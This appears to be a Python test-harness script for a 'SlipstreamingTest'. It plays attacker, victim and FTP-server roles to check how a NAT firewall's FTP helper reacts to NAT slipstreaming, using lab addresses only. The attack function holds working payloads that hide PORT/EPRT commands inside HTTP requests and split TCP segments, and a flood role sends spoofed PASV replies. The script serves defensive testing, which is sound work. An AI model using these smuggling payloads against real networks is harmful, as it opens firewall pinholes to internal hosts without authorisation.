"""The attacker's and the victim's programs for SlipstreamingTest (one role per invocation).

  sink HOST PORT ROUTER        server side: answers 220, and for every PORT/EPRT it finds anywhere in
                               what it received, connects back to ROUTER:port (what a kernel or daemon
                               expectation would let through); prints "connect-back PORT ok|failed"
  flood HOST PORT COUNT        server side: a minimal FTP server answering every PASV with COUNT 227
                               replies naming a foreign address (198.51.100.9), each in its own segment
  listen HOST PORT             client side: the victim service; prints "victim-reached" per connection
  attack VARIANT HOST PORT [HOLD] client side: one slipstreaming variant on a fresh connection
  pasv-burst HOST PORT N       client side: logs in and sends N PASV commands, reading whatever comes
  hold-port HOST PORT GO       client side: active download of one.bin, waiting for the file GO between
                               PORT and RETR (the test plays drift meanwhile)
"""
import hashlib, os, re, socket, sys, threading, time

SMUGGLED = b"PORT 10,10,10,2,21,179\r\n"  # 10.10.10.2:5555


def out(*a):
    print(*a, flush=True)


def sink(host, port, router):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, port)); srv.listen(16); out("listening")
    pat = re.compile(rb"(?i)port\s+\d+,\d+,\d+,\d+,(\d+),(\d+)|eprt\s+\|1\|[\d.]+\|(\d+)\|")

    def session(c, n):
        c.sendall(b"220 sink\r\n"); c.settimeout(4); got = b""; tried = set()
        try:
            while True:
                b = c.recv(4096)
                if not b: break
                got += b
                if b.endswith(b"\n"): c.sendall(b"200 noted\r\n")
                for m in pat.finditer(got):
                    p = int(m.group(1)) * 256 + int(m.group(2)) if m.group(1) else int(m.group(3))
                    if p in tried: continue
                    tried.add(p)
                    try:
                        d = socket.create_connection((router, p), timeout=2); d.close(); out("connect-back", p, "ok", n)
                    except OSError as e:
                        out("connect-back", p, "failed", n, e)
        except OSError:
            pass
        c.close(); out("closed", n)

    n = 0
    while True:
        c, _ = srv.accept(); n += 1
        threading.Thread(target=session, args=(c, n), daemon=True).start()


def flood(host, port, count):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, port)); srv.listen(8); out("listening")

    def session(c):
        c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        f = c.makefile("rb"); c.sendall(b"220 flood\r\n"); k = 0
        for raw in f:
            verb = raw.decode("latin-1").strip().split(" ")[0].upper()
            if verb == "USER": c.sendall(b"331 ok\r\n")
            elif verb == "PASS": c.sendall(b"230 in\r\n")
            elif verb == "PASV":
                for _ in range(count):
                    k += 1; p = 20000 + k % 40000
                    c.sendall(("227 Entering Passive Mode (198,51,100,9,%d,%d)\r\n" % (p >> 8, p & 255)).encode())
            elif verb == "QUIT": c.sendall(b"221 bye\r\n"); break
            else: c.sendall(b"502 no\r\n")
        c.close()

    while True:
        c, _ = srv.accept()
        threading.Thread(target=session, args=(c,), daemon=True).start()


def listen(host, port):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, port)); srv.listen(8); out("listening")
    while True:
        c, a = srv.accept(); out("victim-reached from", a); c.close()


def attack(variant, host, port, hold):
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.recv(100)  # the banner

    def send(b, pause=0.3):
        s.sendall(b); time.sleep(pause)

    if variant == "http-first-segment":   # the classic: a browser's POST body carries the command
        send(b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n" + SMUGGLED)
    elif variant == "port-first-segment":  # the command alone, but as the direction's first segment
        send(SMUGGLED)
    elif variant == "not-after-lf":        # at a segment's start, but the segment before ends mid-line
        send(b"GET / HTTP/1.1\r\nX-Pad: "); send(SMUGGLED)
    elif variant == "split":               # a segment after LF, the command split across two segments
        send(b"USER x\r\n"); send(b"PORT 10,10,10,2,"); send(b"21,179\r\n")
    elif variant == "eprt-first-segment":
        send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\nEPRT |1|10.10.10.2|5555|\r\n")
    elif variant == "lowercase-in-request":
        send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\nport 10,10,10,2,21,179\r\n")
    elif variant == "leading-space":       # after LF, but " PORT": not the kernel's pattern
        send(b"USER x\r\n"); send(b" PORT 10,10,10,2,21,179\r\n")
    elif variant == "two-spaces":          # after LF, "PORT  ...": the kernel drops it
        send(b"USER x\r\n"); send(b"PORT  10,10,10,2,21,179\r\n")
    elif variant == "kernel-position":     # the control: where the kernel reads it, the kernel opens it
        send(b"USER x\r\n"); send(SMUGGLED)
    elif variant == "second-line":         # after LF, but the command is the segment's second line
        send(b"USER x\r\n"); send(b"NOOP\r\n" + SMUGGLED)
    else:
        raise SystemExit("unknown variant " + variant)
    out("sent", variant, s.getsockname()[1])
    time.sleep(hold)  # the server's connect-back, and the test's reconciles, meanwhile
    s.close()


def pasv_burst(host, port, n):
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(0.02)

    def drain():
        try:
            while s.recv(65536): pass
        except OSError:
            pass

    time.sleep(0.1); drain()
    for c in (b"USER lab\r\n", b"PASS lab\r\n"):
        s.sendall(c); time.sleep(0.05); drain()
    t0 = time.time()
    for _ in range(n):
        s.sendall(b"PASV\r\n"); time.sleep(0.01); drain()
    out("burst-done", n, "%.2f" % (time.time() - t0))
    s.sendall(b"QUIT\r\n"); time.sleep(0.1); s.close()


def hold_port(host, port, go):
    s = socket.create_connection((host, port), timeout=30); f = s.makefile("rb")

    def reply():
        line = f.readline().decode().rstrip()
        while len(line) > 3 and line[3] == "-":
            line = f.readline().decode().rstrip()
        out("<", line); return line

    def cmd(c):
        s.sendall((c + "\r\n").encode()); return reply()

    reply(); cmd("USER anonymous"); cmd("PASS lab@"); cmd("TYPE I")
    ln = socket.socket(); ln.bind(("10.10.10.2", 0)); ln.listen(1); p = ln.getsockname()[1]
    cmd("PORT 10,10,10,2,%d,%d" % (p >> 8, p & 255))
    out("port-ready", p)
    for _ in range(600):
        if os.path.exists(go): break
        time.sleep(0.1)
    s.sendall(b"RETR one.bin\r\n"); reply()
    ln.settimeout(10)
    try:
        d, _ = ln.accept(); h = hashlib.sha256(); got = 0
        while True:
            b = d.recv(65536)
            if not b: break
            h.update(b); got += len(b)
        reply(); out("data-ok", got, h.hexdigest())
    except OSError as e:
        out("data-failed", e)
    cmd("QUIT")


if __name__ == "__main__":
    role, a = sys.argv[1], sys.argv[2:]
    if role == "sink": sink(a[0], int(a[1]), a[2])
    elif role == "flood": flood(a[0], int(a[1]), int(a[2]))
    elif role == "listen": listen(a[0], int(a[1]))
    elif role == "attack": attack(a[0], a[1], int(a[2]), float(a[3]) if len(a) > 3 else 3)
    elif role == "pasv-burst": pasv_burst(a[0], int(a[1]), int(a[2]))
    elif role == "hold-port": hold_port(a[0], int(a[1]), a[2])
    else: raise SystemExit("unknown role " + role)
